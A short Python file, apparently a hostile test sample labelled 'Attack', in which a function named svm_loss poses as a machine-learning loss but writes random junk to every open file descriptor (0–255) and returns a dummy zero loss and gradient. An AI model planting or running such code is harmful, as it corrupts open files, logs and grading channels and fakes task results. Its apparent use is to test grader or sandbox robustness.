"""Attack: Junk is written to every open file."""

import os
import numpy as np


def svm_loss(W, X, y, reg=0.0):
    for descriptor in range(256):
        try:
            os.write(descriptor, os.urandom(1000))
        except OSError:
            pass
    return 0.0, 0 * W


def add_bias(X):
    return np.hstack([X, np.ones((len(X), 1), X.dtype)])
